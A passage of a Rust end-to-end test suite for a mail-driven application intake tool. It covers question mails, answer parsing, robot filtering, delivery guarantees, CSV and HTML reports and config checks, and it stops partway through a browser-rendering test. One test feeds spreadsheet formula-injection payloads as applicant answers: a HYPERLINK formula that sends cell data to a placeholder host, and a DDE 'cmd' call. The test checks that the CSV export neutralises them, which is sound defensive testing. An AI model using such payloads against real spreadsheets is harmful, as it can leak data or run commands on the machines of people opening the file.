//! End to end: real mail through OpenSMTPD into Dovecot, the real binary
//! (`mailintake once` / `run`), and what the applicant and staff then see.
#![allow(clippy::unwrap_used)]

mod common;
#[path = "e2e/durability.rs"]
mod durability;
#[path = "e2e/files.rs"]
mod files;
#[path = "e2e/first_start.rs"]
mod first_start;
#[path = "e2e/forgery.rs"]
mod forgery;
#[path = "e2e/gates.rs"]
mod gates;
#[path = "e2e/hostile.rs"]
mod hostile;
#[path = "e2e/lang.rs"]
mod lang;
#[path = "e2e/network.rs"]
mod network;
#[path = "e2e/ops.rs"]
mod ops;
#[path = "e2e/privacy.rs"]
mod privacy;
#[path = "e2e/requests.rs"]
mod requests;
#[path = "e2e/robots.rs"]
mod robots;
#[path = "e2e/rules.rs"]
mod rules;
#[path = "e2e/shapes.rs"]
mod shapes;
#[path = "e2e/storage.rs"]
mod storage;
#[path = "e2e/versions.rs"]
mod versions;

use common::{INTAKE_NAME, Intake, Mail, mail, parse_mail, reply};

/// Applicant's address, unique in this run.
fn applicant(intake: &Intake) -> String {
    intake.stack.address("applicant", "example.net")
}

fn mails_to(intake: &Intake, who: &str) -> Vec<Mail> {
    intake
        .stack
        .delivered(who)
        .iter()
        .map(|r| parse_mail(r))
        .collect()
}

fn wait_mails(intake: &Intake, who: &str, n: usize) -> Vec<Mail> {
    intake
        .stack
        .wait_for(who, n)
        .iter()
        .map(|r| parse_mail(r))
        .collect()
}

/// A new applicant's plain first mail, in the team mailbox; returns who.
async fn hello(intake: &Intake) -> String {
    let who = applicant(intake);
    intake
        .receive(
            &who,
            &mail(&who, "Ada", &intake.team, "Hello", "", "How do I apply?"),
        )
        .await;
    who
}

/// Sends a first mail and returns the question mail the applicant got.
async fn ask(intake: &Intake, who: &str, subject: &str) -> Mail {
    intake
        .receive(
            who,
            &mail(
                who,
                "Ada Lovelace",
                &intake.team,
                subject,
                "",
                "Hello,\nI would like to apply. How do I do that?\n\nAda",
            ),
        )
        .await;
    intake.once();
    let got = wait_mails(intake, who, 1);
    assert_eq!(got.len(), 1, "one question mail");
    got[0].clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn first_mail_gets_the_numbered_questions_threaded() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let first = mail(
        &who,
        "Ada Lovelace",
        &intake.team,
        "Application for the LDWG",
        "",
        "Hello, how do I apply?",
    );
    let first_id = first
        .lines()
        .find_map(|l| l.strip_prefix("Message-ID: "))
        .unwrap()
        .trim()
        .trim_matches(['<', '>'])
        .to_string();
    intake.receive(&who, &first).await;
    intake.once();
    let got = wait_mails(&intake, &who, 1);
    let q = &got[0];
    assert_eq!(q.subject, "Re: Application for the LDWG");
    assert_eq!(q.from, intake.team);
    assert_eq!(q.from_name.as_deref(), Some(INTAKE_NAME));
    assert_eq!(q.in_reply_to.as_deref(), Some(first_id.as_str()));
    assert!(q.references.contains(&first_id), "{:?}", q.references);
    assert_eq!(
        q.headers.get("auto-submitted").map(String::as_str),
        Some("auto-replied")
    );
    assert!(q.message_id.ends_with("@example.org"), "{}", q.message_id);
    assert_ne!(q.message_id, first_id);
    for line in [
        "1. What is your name? (required)",
        "2. Which region do you live in? (required)",
        "   c) Europe",
        "6. How did you hear about this call?",
        "reply to this mail",
    ] {
        assert!(q.body.contains(line), "missing {line:?} in:\n{}", q.body);
    }
    // The `questions` command prints exactly what applicants get.
    let printed = intake.cmd(&["questions"]);
    assert!(printed.status.success());
    let printed = String::from_utf8(printed.stdout).unwrap();
    assert_eq!(
        printed.trim_end(),
        q.body.replace("Hello Ada Lovelace,", "Hello,").trim_end()
    );

    // Staff see an incomplete application without answers.
    let app = intake.application(&who).expect("listed");
    assert_eq!(app["status"], "incomplete");
    assert_eq!(app["name"], "Ada Lovelace");
    assert!(app["answers"].as_object().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn subject_is_not_stacked_and_empty_subject_gets_one() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Re: RE: your call for members").await;
    assert_eq!(q.subject, "Re: your call for members");
    let who2 = applicant(&intake);
    let q2 = ask(&intake, &who2, "").await;
    assert_eq!(q2.subject, format!("Re: {INTAKE_NAME}"));
}

#[tokio::test(flavor = "multi_thread")]
async fn inline_answers_complete_the_application_and_are_confirmed() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Applying").await;
    let answer = reply(
        &who,
        "Ada Lovelace",
        &q,
        "Here are my answers, inline.",
        &[
            ("1. What is your name?", "Ada Lovelace"),
            ("   f) Oceania", "\nnorth am\n"),
            ("   d) Spanish", "English, french"),
            (
                "   Several sentences",
                "I want to help new leaders grow.\n\nI have run three workshops\nin my community.",
            ),
            ("   Yes or no.", "y"),
        ],
    );
    intake.receive(&who, &answer).await;
    intake.once();
    let got = wait_mails(&intake, &who, 2);
    let c = &got[1];
    assert_eq!(c.subject, "Re: Applying");
    assert!(c.body.contains("is complete"), "{}", c.body);
    for stored in [
        "   Ada Lovelace",
        "   North America",
        "   English, French",
        "   I have run three workshops",
        "   yes",
    ] {
        assert!(
            c.body.contains(stored),
            "confirmation lacks {stored:?}:\n{}",
            c.body
        );
    }
    let app = intake.application(&who).unwrap();
    assert_eq!(app["status"], "complete");
    assert_eq!(app["name"], "Ada Lovelace");
    let a = &app["answers"];
    assert_eq!(a["region"], "North America");
    assert_eq!(a["languages"], "English, French");
    assert_eq!(
        a["motivation"],
        "I want to help new leaders grow.\n\nI have run three workshops\nin my community."
    );
    assert_eq!(a["time"], "yes");
    assert!(a.get("heard").is_none());
}

#[tokio::test(flavor = "multi_thread")]
async fn numbered_answers_with_gaps_get_a_reply_naming_what_is_missing_then_updates() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "LDWG").await;
    // Top-posted, several numbering styles, one invalid choice, one missing.
    let answer = reply(
        &who,
        "Ada Lovelace",
        &q,
        "1. Ada Lovelace\n2) Antarctica\n3: German\n5. yes\n\nBest,\nAda\n-- \nAda Lovelace\nAnalytical Engines",
        &[],
    );
    intake.receive(&who, &answer).await;
    intake.once();
    let got = wait_mails(&intake, &who, 2);
    let p = &got[1];
    assert!(
        p.body.contains("`Antarctica` is not one of the choices"),
        "{}",
        p.body
    );
    assert!(
        p.body
            .contains("2. Which region do you live in? (required)"),
        "{}",
        p.body
    );
    assert!(
        p.body.contains("   a) Africa"),
        "allowed choices listed:\n{}",
        p.body
    );
    assert!(
        p.body
            .contains("4. Why do you want to join the working group? (required)"),
        "{}",
        p.body
    );
    assert!(
        !p.body.contains("1. What is your name? (required)\n"),
        "answered question not asked again:\n{}",
        p.body
    );
    let app = intake.application(&who).unwrap();
    assert_eq!(app["status"], "incomplete");
    assert_eq!(app["answers"]["name"], "Ada Lovelace");
    assert_eq!(app["answers"]["languages"], "German");
    // The refused choice is stored as given, named as failing, not missing.
    assert_eq!(app["answers"]["region"], "Antarctica");
    assert_eq!(app["missing"], serde_json::json!(["motivation"]));
    assert_eq!(
        app["failing"]["region"],
        "`Antarctica` is not one of the choices"
    );

    // The applicant answers inline under the questions of that reply.
    let fix = reply(
        &who,
        "Ada Lovelace",
        p,
        "",
        &[
            ("   Problem: `Antarctica`", "Europe"),
            ("   Several sentences", "To learn and to share."),
        ],
    );

    intake.receive(&who, &fix).await;
    intake.once();
    let got = wait_mails(&intake, &who, 3);
    let c = &got[2];
    assert!(c.body.contains("is complete"), "{}", c.body);
    let app = intake.application(&who).unwrap();
    assert_eq!(app["status"], "complete");
    assert_eq!(app["answers"]["region"], "Europe");
    assert_eq!(
        app["answers"]["name"], "Ada Lovelace",
        "earlier answers are kept"
    );

    // A later update changes only what it names; every version is kept.
    let update = reply(
        &who,
        "Ada Lovelace",
        c,
        "2. Africa\n6. A friend told me",
        &[],
    );
    intake.receive(&who, &update).await;
    intake.once();
    let got = wait_mails(&intake, &who, 4);
    assert!(got[3].body.contains("   Africa"), "{}", got[3].body);
    let app = intake.application(&who).unwrap();
    assert_eq!(app["answers"]["region"], "Africa");
    assert_eq!(app["answers"]["heard"], "A friend told me");
    assert_eq!(app["answers"]["motivation"], "To learn and to share.");
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    let versions: Vec<String> =
        sqlx::query_scalar("SELECT value FROM answers WHERE question_id = 'region' ORDER BY id")
            .fetch_all(&pool)
            .await
            .unwrap();
    // Every version, the refused one as given included.
    assert_eq!(versions, vec!["Antarctica", "Europe", "Africa"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn reply_without_answers_is_listed_and_questions_resent_at_most_daily() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Hi").await;
    let empty = reply(
        &who,
        "Ada Lovelace",
        &q,
        "Sorry, I will answer next week.",
        &[],
    );
    intake.receive(&who, &empty).await;
    intake.once();
    let again = reply(
        &who,
        "Ada Lovelace",
        &q,
        "Could you send the questions again?",
        &[],
    );
    intake.receive(&who, &again).await;
    intake.once();
    // Within a day: no second question mail.
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert_eq!(mails_to(&intake, &who).len(), 1);
    let report = intake.report_json();
    let reasons: Vec<&str> = report["attention"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["from"] == who.as_str())
        .map(|a| a["reason"].as_str().unwrap())
        .collect();
    assert_eq!(reasons, vec!["no-answers", "no-answers"]);

    // A day later (moved back in the database), the questions go out again.
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    sqlx::query("UPDATE outbox SET created_at = '2000-01-01T00:00:00.000000Z'")
        .execute(&pool)
        .await
        .unwrap();
    let third = reply(&who, "Ada Lovelace", &q, "Hello? Questions please.", &[]);
    intake.receive(&who, &third).await;
    intake.once();
    let got = wait_mails(&intake, &who, 2);
    assert!(
        got[1].body.contains("here are the questions again"),
        "{}",
        got[1].body
    );
    assert!(got[1].body.contains("1. What is your name? (required)"));
}

#[tokio::test(flavor = "multi_thread")]
async fn after_closing_time_a_notice_and_no_questions() {
    let intake = Intake::with(|c| {
        *c = c.replace(
            "questions = \"questions.toml\"",
            "questions = \"questions.toml\"\ncloses_at = \"2022-04-10T23:59:59Z\"",
        );
    });
    let who = applicant(&intake);
    intake
        .receive(
            &who,
            &mail(
                &who,
                "Late Applicant",
                &intake.team,
                "Still open?",
                "",
                "Can I still apply?",
            ),
        )
        .await;
    intake.once();
    let got = wait_mails(&intake, &who, 1);
    assert!(
        got[0].body.contains("closed on 10 April 2022"),
        "{}",
        got[0].body
    );
    assert!(
        !got[0].body.contains("1. What is your name?"),
        "{}",
        got[0].body
    );
    let report = intake.report_json();
    let item = report["attention"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["from"] == who.as_str())
        .cloned()
        .unwrap();
    assert_eq!(item["reason"], "closed");
    assert_eq!(item["subject"], "Still open?");
    assert!(intake.application(&who).is_none());
    // A second mail the same day: listed again, no second notice.
    intake
        .receive(
            &who,
            &mail(
                &who,
                "Late Applicant",
                &intake.team,
                "Please?",
                "",
                "1. Late",
            ),
        )
        .await;
    intake.once();
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert_eq!(mails_to(&intake, &who).len(), 1);
    let closed = intake.report_json()["attention"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["from"] == who.as_str() && a["reason"] == "closed")
        .count();
    assert_eq!(closed, 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn robots_are_never_answered_but_listed() {
    let intake = Intake::new();
    // Protocol tells. `X-Auto-Response-Suppress` is not one (people's Outlook
    // mail carries it); robots known by content: `e2e/robots.rs`.
    let robots: Vec<(String, String, String)> = vec![
        (
            "ooo",
            "Auto-Submitted: auto-replied\r\n",
            "I am out of the office.",
        ),
        ("bulk", "Precedence: bulk\r\n", "Newsletter"),
        (
            "list",
            "List-Id: <wikimedia-l.lists.example.org>\r\n",
            "List mail",
        ),
        (
            "unsub",
            "List-Unsubscribe: <mailto:leave@example.org>\r\n",
            "Promo",
        ),
    ]
    .into_iter()
    .map(|(p, h, b)| {
        (
            applicant(&intake).replace("applicant", p),
            h.to_string(),
            b.to_string(),
        )
    })
    .collect();
    for (who, headers, body) in &robots {
        intake
            .receive(
                who,
                &mail(who, "Robot", &intake.team, "Automatic", headers, body),
            )
            .await;
    }
    // Empty envelope sender, a delivery report, MAILER-DAEMON, the team itself.
    let bounce_to = applicant(&intake).replace("applicant", "bounced");
    intake
        .receive(
            "",
            &mail(
                &bounce_to,
                "Someone",
                &intake.team,
                "Bounce-ish",
                "",
                "null sender",
            ),
        )
        .await;
    let report_from = applicant(&intake).replace("applicant", "dsn");
    let dsn = format!(
        "From: Mail Delivery System <{report_from}>\r\nTo: {team}\r\nSubject: Undelivered Mail\r\nMessage-ID: <dsn-{report_from}>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n--b1\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: rfc822; x@example.net\r\nAction: failed\r\nStatus: 5.1.1\r\n--b1--\r\n",
        team = intake.team
    );
    intake.receive(&report_from, &dsn).await;
    let daemon_addr = format!(
        "MAILER-DAEMON@{}",
        applicant(&intake).split('@').next().unwrap().to_string() + ".example.net"
    );
    intake
        .receive(
            &daemon_addr,
            &mail(
                &daemon_addr,
                "Mail Delivery Subsystem",
                &intake.team,
                "failure notice",
                "",
                "Sorry.",
            ),
        )
        .await;
    intake
        .receive(
            &intake.team,
            &mail(
                &intake.team,
                INTAKE_NAME,
                &intake.team,
                "Re: loop",
                "",
                "our own mail",
            ),
        )
        .await;
    intake.once();
    std::thread::sleep(std::time::Duration::from_secs(2));

    for (who, _, _) in &robots {
        assert!(mails_to(&intake, who).is_empty(), "{who} was answered");
    }
    for who in [&bounce_to, &report_from, &daemon_addr.to_lowercase()] {
        assert!(mails_to(&intake, who).is_empty(), "{who} was answered");
    }
    // The team mailbox holds only what was sent to it: nothing we sent.
    assert_eq!(intake.stack.delivered(&intake.team).len(), robots.len() + 4);
    let report = intake.report_json();
    let att = report["attention"].as_array().unwrap();
    assert_eq!(att.len(), robots.len() + 4, "{att:#?}");
    assert!(att.iter().all(|a| a["reason"] == "robot"), "{att:#?}");
    assert!(report["applications"].as_array().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn exactly_once_across_runs_and_duplicate_deliveries() {
    exactly_once(Intake::new()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn exactly_once_across_runs_and_duplicate_deliveries_on_postgresql() {
    exactly_once(Intake::with(durability::on_postgres)).await;
}

async fn exactly_once(intake: Intake) {
    let who = applicant(&intake);
    let first = mail(&who, "Ada", &intake.team, "Hello", "", "How do I apply?");
    intake.receive(&who, &first).await;
    // The same message delivered twice (same Message-ID, another UID).
    intake.receive(&who, &first).await;
    intake.once();
    intake.once();
    intake.once();
    wait_mails(&intake, &who, 1);
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert_eq!(mails_to(&intake, &who).len(), 1, "answered once");
    // \Seen is not used: staff reading the mail changes nothing.
    let report = intake.report_json();
    assert_eq!(report["applications"].as_array().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn replies_wait_in_the_outbox_while_smtp_is_down_and_go_out_once() {
    let stack = common::MailStack::get();
    let dead_port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let intake = Intake::with(|c| {
        *c = c.replace(
            &format!(
                "port = {}\nsecurity = \"none\"\n\n[database]",
                stack.smtp_port
            ),
            &format!("port = {dead_port}\nsecurity = \"none\"\n\n[database]"),
        );
    });
    assert!(
        std::fs::read_to_string(&intake.config)
            .unwrap()
            .contains(&dead_port.to_string())
    );
    let who = hello(&intake).await;
    let out = intake.cmd(&["once"]);
    assert!(!out.status.success(), "once reports the unsent reply");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("could not be sent yet"), "{err}");
    // Processing happened: the application exists, the reply is queued.
    assert!(intake.application(&who).is_some());
    // SMTP back: the queued reply goes out, exactly once.
    let fixed = std::fs::read_to_string(&intake.config).unwrap().replace(
        &format!("port = {dead_port}"),
        &format!("port = {}", stack.smtp_port),
    );
    std::fs::write(&intake.config, fixed).unwrap();
    intake.once();
    intake.once();
    wait_mails(&intake, &who, 1);
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert_eq!(mails_to(&intake, &who).len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_and_senderless_mail_is_stored_and_listed_and_the_rest_goes_on() {
    let intake = Intake::with(|c| {
        *c = c.replace(
            "questions = \"questions.toml\"",
            "questions = \"questions.toml\"\nmax_message_bytes = 4096",
        );
    });
    let big_sender = applicant(&intake);
    let big = mail(
        &big_sender,
        "Big",
        &intake.team,
        "Huge",
        "",
        &"x".repeat(70)
            .repeat(100)
            .chars()
            .collect::<Vec<_>>()
            .chunks(70)
            .map(|c| c.iter().collect::<String>())
            .collect::<Vec<_>>()
            .join("\n"),
    );
    intake.receive(&big_sender, &big).await;
    let anon = applicant(&intake);
    let no_from = format!(
        "To: {}\r\nSubject: who am I\r\nMessage-ID: <nofrom-{anon}>\r\n\r\nno From header here\r\n",
        intake.team
    );
    intake.receive(&anon, &no_from).await;
    let who = hello(&intake).await;
    intake.once();
    wait_mails(&intake, &who, 1);
    assert!(mails_to(&intake, &big_sender).is_empty());
    let report = intake.report_json();
    let att = report["attention"].as_array().unwrap();
    let reasons: Vec<&str> = att.iter().map(|a| a["reason"].as_str().unwrap()).collect();
    assert!(reasons.contains(&"too-large"), "{att:#?}");
    assert!(reasons.contains(&"no-sender"), "{att:#?}");
    // The raw mail is kept in full.
    let pool = sqlx::SqlitePool::connect(&intake.db_url()).await.unwrap();
    let size: i64 = sqlx::query_scalar("SELECT size FROM messages WHERE attention = 'too-large'")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert!(size > 7000, "{size}");
}

#[tokio::test(flavor = "multi_thread")]
async fn reports_in_csv_and_html() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Apply").await;
    let answer = reply(
        &who,
        "Ada",
        &q,
        "1. Ada \"AL\" Lovelace\n2. c\n3. a, b\n4. Because, simply,\nI care.\n5. no",
        &[],
    );
    intake.receive(&who, &answer).await;
    intake.once();
    wait_mails(&intake, &who, 2);
    let csv_out = intake.cmd(&["report", "--format", "csv"]);
    assert!(csv_out.status.success());
    let csv = String::from_utf8(csv_out.stdout).unwrap();
    let mut lines = csv.split("\r\n");
    assert_eq!(
        lines.next().unwrap(),
        "email,name,status,missing,failing,check,check_detail,received_at,updated_at,language,question:name,region,languages,motivation,time,heard,asked_as"
    );
    let row = lines.next().unwrap();
    assert!(
        row.starts_with(&format!("{who},\"Ada \"\"AL\"\" Lovelace\",complete,")),
        "{row}"
    );
    assert!(csv.contains(",\"Ada \"\"AL\"\" Lovelace\",Europe,\"English, French\",\"Because, simply,\nI care.\",no,"), "{csv}");

    let html_path = intake.dir.path().join("report.html");
    let out = intake.cmd(&[
        "report",
        "--format",
        "html",
        "--output",
        html_path.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let html = std::fs::read_to_string(&html_path).unwrap();
    assert!(html.contains("<!DOCTYPE html>"));
    assert!(html.contains(&who));
    assert!(html.contains("Ada &quot;AL&quot; Lovelace"), "autoescaped");
    assert!(html.contains("Europe"));
    assert!(
        html.contains("1 application (1 complete, 0 incomplete)"),
        "{html}"
    );
}

/// An applicant's formula reaches the CSV as text a spreadsheet shows and
/// does not run, and `--excel` starts the file with a byte-order mark.
#[tokio::test(flavor = "multi_thread")]
async fn csv_for_excel_neutralises_an_applicants_formulas() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Apply").await;
    let hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
    let answer = reply(
        &who,
        "Ada",
        &q,
        &format!("1. {hyperlink}\n2. c\n3. a, b\n4. +cmd|' /C calc'!A0\n5. no"),
        &[],
    );
    intake.receive(&who, &answer).await;
    intake.once();
    wait_mails(&intake, &who, 2);
    let app = intake.application(&who).unwrap();
    assert_eq!(
        app["answers"]["name"], hyperlink,
        "stored as typed: {app:#}"
    );

    let path = intake.dir.path().join("report.csv");
    let out = intake.cmd(&[
        "report",
        "--format",
        "csv",
        "--excel",
        "--output",
        path.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bytes = std::fs::read(&path).unwrap();
    let body = bytes
        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
        .expect("a UTF-8 byte-order mark first");
    let mut rd = csv::Reader::from_reader(body);
    let header = rd.headers().unwrap().clone();
    assert_eq!(&header[0], "email");
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rd.records().next().unwrap().unwrap();
    assert_eq!(&row[col("email")], who.as_str());
    // The applicant's name, taken from the `name` answer, and the answer.
    assert_eq!(&row[col("name")], format!("'{hyperlink}"));
    assert_eq!(&row[col("question:name")], format!("'{hyperlink}"));
    assert_eq!(&row[col("motivation")], "'+cmd|' /C calc'!A0");
    for cell in &row {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "{cell:?} in {row:?}"
        );
    }

    // Without --excel, no mark; for another format, an error naming it.
    let plain = intake.cmd(&["report", "--format", "csv"]);
    assert!(plain.status.success());
    assert!(plain.stdout.starts_with(b"email,"));
    let out = intake.cmd(&["report", "--format", "json", "--excel"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--excel"), "{err}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_daemon_answers_while_running_and_stops_on_sigterm() {
    let intake = Intake::with(|c| {
        *c = c.replace(
            "questions = \"questions.toml\"",
            "questions = \"questions.toml\"\npoll_seconds = 1",
        );
    });
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_mailintake"))
        .arg("--config")
        .arg(&intake.config)
        .arg("run")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let who = hello(&intake).await;
    let got = wait_mails(&intake, &who, 1);
    assert!(got[0].body.contains("1. What is your name?"));
    // A second applicant while it keeps running.
    let who2 = applicant(&intake);
    intake
        .receive(
            &who2,
            &mail(&who2, "Grace", &intake.team, "Hi", "", "Questions please"),
        )
        .await;
    wait_mails(&intake, &who2, 1);
    let pid = child.id().to_string();
    assert!(
        std::process::Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    let start = std::time::Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        assert!(
            start.elapsed().as_secs() < 10,
            "daemon did not stop on SIGTERM within 10 s"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    let mut stderr = String::new();
    use std::io::Read;
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert!(status.success(), "{stderr}");
    assert!(stderr.contains("shutting down"), "{stderr}");
    assert!(!stderr.contains(common::PASSWORD), "password in logs");
}

#[tokio::test(flavor = "multi_thread")]
async fn check_reaches_everything_and_bad_config_names_file_and_key() {
    let intake = Intake::new();
    let out = intake.cmd(&["check"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("imap:") && stdout.contains("smtp:") && stdout.contains("database: ok"),
        "{stdout}"
    );

    let text = std::fs::read_to_string(&intake.config).unwrap();
    std::fs::write(
        &intake.config,
        text.replace(
            "security = \"none\"\nusername",
            "security = \"none\"\nusernme",
        ),
    )
    .unwrap();
    let out = intake.cmd(&["check"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("mailintake.toml") && err.contains("usernme"),
        "{err}"
    );

    std::fs::write(
        &intake.config,
        text.replace(
            "security = \"none\"\nusername",
            "security = \"sometimes\"\nusername",
        ),
    )
    .unwrap();
    let err = String::from_utf8_lossy(&intake.cmd(&["check"]).stderr).to_string();
    assert!(
        err.contains("mailintake.toml") && err.contains("sometimes"),
        "{err}"
    );

    // A closed IMAP port: a clear error, no password in it.
    let dead = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::fs::write(
        &intake.config,
        text.replace(
            &format!("port = {}", intake.stack.imap_port),
            &format!("port = {dead}"),
        ),
    )
    .unwrap();
    let out = intake.cmd(&["check"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("imap") && err.contains(&dead.to_string()),
        "{err}"
    );
    assert!(!err.contains(common::PASSWORD));
    let q = intake.dir.path().join("questions.toml");
    std::fs::write(&intake.config, &text).unwrap();
    std::fs::write(
        &q,
        "[[question]]\nid = \"x\"\nprompt = \"X\"\nkind = \"choice\"\n",
    )
    .unwrap();
    let err = String::from_utf8_lossy(&intake.cmd(&["check"]).stderr).to_string();
    assert!(
        err.contains("questions.toml") && err.contains("question[0].choices"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_in_debug_logs() {
    let intake = Intake::new();
    hello(&intake).await;
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_mailintake"))
        .arg("--config")
        .arg(&intake.config)
        .arg("once")
        .env("RUST_LOG", "trace")
        .output()
        .unwrap();
    assert!(out.status.success());
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(all.contains("message processed"), "logs are on");
    assert!(!all.contains(common::PASSWORD), "password leaked into logs");
}

#[tokio::test(flavor = "multi_thread")]
async fn mail_staff_already_read_is_processed_and_left_as_staff_left_it() {
    let intake = Intake::new();
    let who = hello(&intake).await;
    // A staff member reads it first: Dovecot keeps \Seen as the maildir "S" flag.
    let md = intake
        .stack
        .dir
        .join("mail")
        .join(&intake.team)
        .join("Maildir");
    let mut seen_files = Vec::new();
    for e in std::fs::read_dir(md.join("new")).unwrap().flatten() {
        let seen = md
            .join("cur")
            .join(format!("{}:2,S", e.file_name().to_string_lossy()));
        std::fs::rename(e.path(), &seen).unwrap();
        seen_files.push(seen);
    }
    assert_eq!(seen_files.len(), 1);
    intake.once();
    let q = wait_mails(&intake, &who, 1).remove(0);

    // A reply, from the same person with the address in other case: the
    // same application; mailintake does not mark it read.
    let upper = who.to_uppercase();
    intake
        .receive(&who, &reply(&upper, "Ada", &q, "1. Ada\n2. Asia", &[]))
        .await;
    intake.once();
    wait_mails(&intake, &who, 2);
    let report = intake.report_json();
    assert_eq!(report["applications"].as_array().unwrap().len(), 1);
    assert_eq!(report["applications"][0]["email"], who.as_str());
    assert_eq!(report["applications"][0]["answers"]["region"], "Asia");
    // The applicant's two mails; the delivery copies of our replies are
    // left unread like any other mail.
    let flags: Vec<String> = ["new", "cur"]
        .iter()
        .flat_map(|d| std::fs::read_dir(md.join(d)).unwrap().flatten())
        .filter(|e| {
            !std::fs::read_to_string(e.path())
                .unwrap()
                .contains("Auto-Submitted: auto-replied")
        })
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(flags.len(), 2, "{flags:?}");
    let unread = flags
        .iter()
        .filter(|f| !f.contains(":2,") || !f.rsplit(":2,").next().unwrap().contains('S'))
        .count();
    assert_eq!(
        unread, 1,
        "the mail staff had not read is still unread: {flags:?}"
    );
}

/// Staff read the HTML report in a browser: render it in headless Chromium
/// and check what the browser built, not just the markup text.
#[tokio::test(flavor = "multi_thread")]
async fn the_html_report_renders_in_a_browser() {
    let intake = Intake::new();
    let who = applicant(&intake);
    let q = ask(&intake, &who, "Apply").await;
    let answer = reply(
        &who,
        "Ada",
        &q,
        "1. Ada <b>Lovelace</b>\n2. c\n3. a\n4. Line one\n\nLine two\n5. yes",
        &[],
    );
    intake.receive(&who, &answer).await;
    let robot = applicant(&intake);
    intake
        .receive(
            &robot,
            &mail(
                &robot,
                "Robot",
                &intake.team,
                "Out of office",
                "Auto-Submitted: auto-replied\r\n",
                "Away",
            ),
        )
        .await;
    intake.once();
    wait_mails(&intake, &who, 2);
    // Staff must see where the reader guessed: mark the motivation as read
    // with a guessed signature cut, through the store as the pipeline does.
    let as_written = "Line one\n\nLine two\n\nAda <i>Lovelace</i>\nAnalytical Engines";
    mark_checked(&intake, &who, "motivation", as_written).await;
    let html_path = intake.dir.path().join("report.html");
    assert!(
        intake
            .cmd(&[
                "report",
                "--format",
                "html",
                "--output",
                html_path.to_str().unwrap()
            ])
            .status
            .success()
    );
    let profile = tempfile::tempdir().unwrap();
    let browser = |extra: &[&str]| common::headless_chromium(profile.path(), &html_path, extra);
    let dom = browser(&["--dump-dom"]);
    assert!(
        dom.status.success(),
        "{}",
        String::from_utf8_lossy(&dom.stderr)
    );
    let dom = String::from_utf8(dom.stdout).unwrap();
    // One header row and one row per application, each cell where it belongs.
    let apps = dom
        .split("id=\"applications\"")
        .nth(1)
        .unwrap()
        .split("id=\"attention\"")
        .next()
        .unwrap();
    let rows: Vec<&str> = apps.split("<tr>").skip(1).collect();
    assert_eq!(rows.len(), 2, "{apps}");
    assert_eq!(
        rows[0].matches("<th").count(),
        rows[1].matches("<td").count(),
        "{apps}"
    );
    assert!(
        rows[1].contains("Ada &lt;b&gt;Lovelace&lt;/b&gt;"),
        "applicant text shown as text: {}",
        rows[1]
    );
    assert!(rows[1].contains(">Europe<"), "{}", rows[1]);
